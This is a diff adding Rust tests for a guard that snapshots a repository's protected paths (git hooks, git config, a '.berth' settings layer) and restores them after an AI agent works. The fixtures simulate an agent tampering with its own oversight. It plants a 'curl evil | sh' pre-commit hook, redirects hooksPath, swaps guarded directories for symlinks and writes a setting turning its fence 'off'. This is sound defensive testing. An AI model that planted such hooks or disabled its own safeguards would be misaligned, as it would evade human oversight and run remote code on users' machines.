@@ -1,0 +1,263 @@
+use super::*;
+use std::fs;
+use std::os::unix::fs::{PermissionsExt, symlink};
+use std::path::PathBuf;
+
+struct Tmp(PathBuf);
+
+impl Drop for Tmp {
+    fn drop(&mut self) {
+        let _ = fs::remove_dir_all(&self.0);
+    }
+}
+
+fn tmp(name: &str) -> Tmp {
+    let p = std::env::temp_dir().join(format!(
+        "berth-guard-{name}-{}-{}",
+        std::process::id(),
+        uuid::Uuid::now_v7().simple()
+    ));
+    fs::create_dir_all(&p).unwrap();
+    Tmp(p)
+}
+
+/// A directory with a repository's guarded files and a project layer.
+fn repo(name: &str) -> Tmp {
+    let t = tmp(name);
+    let d = &t.0;
+    fs::create_dir_all(d.join(".git/hooks")).unwrap();
+    fs::create_dir_all(d.join(".git/objects")).unwrap();
+    fs::write(d.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
+    fs::write(
+        d.join(".git/hooks/pre-commit.sample"),
+        "#!/bin/sh\nexit 0\n",
+    )
+    .unwrap();
+    fs::set_permissions(
+        d.join(".git/hooks/pre-commit.sample"),
+        fs::Permissions::from_mode(0o755),
+    )
+    .unwrap();
+    fs::create_dir_all(d.join(".berth")).unwrap();
+    fs::write(d.join(".berth/settings.jsonc"), "{}\n").unwrap();
+    fs::write(d.join("main.rs"), "fn main() {}\n").unwrap();
+    t
+}
+
+fn dirfd(p: &Path) -> OwnedFd {
+    rustix::fs::open(p, OFlags::RDONLY | OFlags::DIRECTORY, Mode::empty()).unwrap()
+}
+
+/// Every file under `p` with its bytes and mode (symlinks as their target).
+fn tree(p: &Path) -> Vec<(String, String, u32)> {
+    fn go(base: &Path, p: &Path, out: &mut Vec<(String, String, u32)>) {
+        let mut names: Vec<_> = fs::read_dir(p)
+            .unwrap()
+            .map(|e| e.unwrap().path())
+            .collect();
+        names.sort();
+        for n in names {
+            let rel = n.strip_prefix(base).unwrap().to_string_lossy().into_owned();
+            let md = fs::symlink_metadata(&n).unwrap();
+            if md.file_type().is_symlink() {
+                out.push((
+                    rel,
+                    format!("-> {}", fs::read_link(&n).unwrap().display()),
+                    0,
+                ));
+            } else if md.is_dir() {
+                out.push((rel.clone(), "dir".into(), md.permissions().mode() & 0o7777));
+                go(base, &n, out);
+            } else {
+                out.push((
+                    rel,
+                    String::from_utf8_lossy(&fs::read(&n).unwrap()).into_owned(),
+                    md.permissions().mode() & 0o7777,
+                ));
+            }
+        }
+    }
+    let mut out = Vec::new();
+    go(p, p, &mut out);
+    out
+}
+
+#[test]
+fn what_the_agent_did_to_guarded_paths_is_undone_and_named() {
+    let t = repo("undo");
+    let d = &t.0;
+    let outside = tmp("outside");
+    fs::write(outside.0.join("bashrc"), "mine\n").unwrap();
+    let before = tree(d);
+    let snap = Snapshot::take(dirfd(d)).unwrap();
+
+    // The agent: plants a hook, rewrites the config, chmods the sample, hard-links the
+    // project layer to a file outside, adds a symlinked hook, and a directory.
+    fs::write(d.join(".git/hooks/pre-commit"), "curl evil | sh\n").unwrap();
+    fs::write(d.join(".git/config"), "[core]\n\thooksPath = /tmp/evil\n").unwrap();
+    fs::set_permissions(
+        d.join(".git/hooks/pre-commit.sample"),
+        fs::Permissions::from_mode(0o777),
+    )
+    .unwrap();
+    fs::remove_file(d.join(".berth/settings.jsonc")).unwrap();
+    fs::hard_link(outside.0.join("bashrc"), d.join(".berth/settings.jsonc")).unwrap();
+    symlink("/tmp/evil-hook", d.join(".git/hooks/post-checkout")).unwrap();
+    fs::create_dir_all(d.join(".berth/agents/x")).unwrap();
+    fs::write(d.join(".berth/agents/x/brief.md"), "widen me").unwrap();
+    // And its own work, outside the guarded paths.
+    fs::write(d.join("main.rs"), "fn main() { work() }\n").unwrap();
+    fs::write(d.join(".git/objects/ab"), "object").unwrap();
+
+    let done = snap.restore(dirfd(d)).unwrap();
+    let mut names: Vec<(String, &str)> = done.iter().map(|r| (r.path.clone(), r.what)).collect();
+    names.sort();
+    assert_eq!(
+        names,
+        [
+            (".berth/agents".to_owned(), "added"),
+            (".berth/agents/x".to_owned(), "added"),
+            (".berth/agents/x/brief.md".to_owned(), "added"),
+            (".berth/settings.jsonc".to_owned(), "changed"),
+            (".git/config".to_owned(), "changed"),
+            (".git/hooks/post-checkout".to_owned(), "added"),
+            (".git/hooks/pre-commit".to_owned(), "added"),
+            (".git/hooks/pre-commit.sample".to_owned(), "changed"),
+        ]
+    );
+    // The guarded paths are exactly as before; the agent's own work stays.
+    let after: Vec<_> = tree(d)
+        .into_iter()
+        .filter(|(p, ..)| p != "main.rs" && p != ".git/objects/ab")
+        .collect();
+    let before: Vec<_> = before
+        .into_iter()
+        .filter(|(p, ..)| p != "main.rs")
+        .collect();
+    assert_eq!(after, before);
+    assert_eq!(
+        fs::read_to_string(d.join("main.rs")).unwrap(),
+        "fn main() { work() }\n"
+    );
+    // The file outside, linked in by the agent, was never written through.
+    assert_eq!(
+        fs::read_to_string(outside.0.join("bashrc")).unwrap(),
+        "mine\n"
+    );
+    // Again: nothing to do.
+    assert_eq!(snap.restore(dirfd(d)).unwrap(), []);
+}
+
+#[test]
+fn a_guarded_directory_swapped_for_a_symlink_is_put_back_without_writing_through_it() {
+    let t = repo("swap");
+    let d = &t.0;
+    let outside = tmp("target");
+    fs::write(outside.0.join("keep"), "outside\n").unwrap();
+    let snap = Snapshot::take(dirfd(d)).unwrap();
+    fs::remove_dir_all(d.join(".git/hooks")).unwrap();
+    symlink(&outside.0, d.join(".git/hooks")).unwrap();
+    fs::remove_dir_all(d.join(".berth")).unwrap();
+    symlink(&outside.0, d.join(".berth")).unwrap();
+
+    let done = snap.restore(dirfd(d)).unwrap();
+    assert!(
+        done.iter()
+            .any(|r| r.path == ".git/hooks" && r.what == "replaced"),
+        "{done:?}"
+    );
+    assert!(
+        done.iter()
+            .any(|r| r.path == ".berth" && r.what == "replaced"),
+        "{done:?}"
+    );
+    assert!(fs::symlink_metadata(d.join(".git/hooks")).unwrap().is_dir());
+    assert_eq!(
+        fs::read_to_string(d.join(".git/hooks/pre-commit.sample")).unwrap(),
+        "#!/bin/sh\nexit 0\n"
+    );
+    assert_eq!(
+        fs::read_to_string(d.join(".berth/settings.jsonc")).unwrap(),
+        "{}\n"
+    );
+    // Nothing was written into, or removed from, the symlinks' target.
+    assert_eq!(
+        fs::read_dir(&outside.0).unwrap().count(),
+        1,
+        "the target of the agent's symlink is untouched"
+    );
+    assert_eq!(
+        fs::read_to_string(outside.0.join("keep")).unwrap(),
+        "outside\n"
+    );
+}
+
+#[test]
+fn a_project_layer_the_agent_creates_is_removed_and_a_new_repository_is_left() {
+    let t = tmp("fresh");
+    let d = &t.0;
+    fs::write(d.join("main.rs"), "fn main() {}\n").unwrap();
+    let snap = Snapshot::take(dirfd(d)).unwrap();
+    assert_eq!(snap.git, None);
+    fs::create_dir_all(d.join(".berth")).unwrap();
+    fs::write(d.join(".berth/settings.jsonc"), r#"{"fence": "off"}"#).unwrap();
+    // `git init` is the agent's to do.
+    fs::create_dir_all(d.join(".git/hooks")).unwrap();
+    fs::write(d.join(".git/config"), "[core]\n").unwrap();
+
+    let done = snap.restore(dirfd(d)).unwrap();
+    let paths: Vec<&str> = done.iter().map(|r| r.path.as_str()).collect();
+    assert_eq!(paths, [".berth/settings.jsonc", ".berth"]);
+    assert!(!d.join(".berth").exists());
+    assert!(d.join(".git/config").exists());
+}
+
+#[test]
+fn a_replaced_git_directory_is_named_and_gets_the_guarded_files_back() {
+    let t = repo("regit");
+    let d = &t.0;
+    let snap = Snapshot::take(dirfd(d)).unwrap();
+    fs::rename(d.join(".git"), d.join("old-git")).unwrap();
+    fs::create_dir_all(d.join(".git/hooks")).unwrap();
+    fs::write(d.join(".git/hooks/pre-commit"), "evil").unwrap();
+    let done = snap.restore(dirfd(d)).unwrap();
+    assert_eq!(
+        done[0],
+        Restored {
+            path: ".git".into(),
+            what: "replaced"
+        }
+    );
+    assert!(!d.join(".git/hooks/pre-commit").exists());
+    assert_eq!(
+        fs::read_to_string(d.join(".git/config")).unwrap(),
+        "[core]\n\tbare = false\n"
+    );
+}
+
+#[test]
+fn a_snapshot_over_its_bounds_is_refused_by_name_and_round_trips_when_saved() {
+    let t = repo("big");
+    let d = &t.0;
+    let big = vec![b'x'; (MAX_BYTES + 1) as usize];
+    fs::write(d.join(".berth/blob"), &big).unwrap();
+    match Snapshot::take(dirfd(d)) {
+        Err(GuardError::TooLarge { path, limit }) => {
+            assert_eq!((path.as_str(), limit.as_str()), (".berth/blob", "4 MiB"))
+        }
+        other => panic!("{other:?}"),
+    }
+    fs::remove_file(d.join(".berth/blob")).unwrap();
+    // A FIFO in a guarded place is never opened.
+    let made = std::process::Command::new("mkfifo")
+        .arg(d.join(".berth/fifo"))
+        .status()
+        .unwrap();
+    assert!(made.success());
+    let snap = Snapshot::take(dirfd(d)).unwrap();
+    let file = d.join("snap.json");
+    snap.save(&file).unwrap();
+    assert_eq!(Snapshot::load(&file).unwrap(), snap);
+    assert_eq!(unhex(&hex(b"\x00\xffab")).unwrap(), b"\x00\xffab");
+    assert_eq!(unhex("abc"), None);
+}
